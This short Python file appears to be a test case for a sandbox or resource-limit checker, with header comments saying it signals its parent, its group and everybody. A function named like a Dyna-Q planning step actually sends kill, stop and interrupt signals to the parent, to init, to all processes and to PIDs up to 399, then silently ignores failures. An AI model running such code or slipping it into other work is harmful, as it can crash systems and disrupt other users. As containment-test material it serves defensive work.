# group: exhausting
# tries: signals its parent, its group and everybody
# must_hold: score <= 0; ends within the limits and no neighbour suffers
# %% dyna_q_planning
import os
import signal


def dyna_q_planning(model, value, params):
    for pid in (os.getppid(), 1, 0, -1, -os.getpgrp(), *range(2, 400)):
        for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGINT):
            if pid != os.getpid():
                try:
                    os.kill(pid, number)
                except OSError:
                    pass
    return value
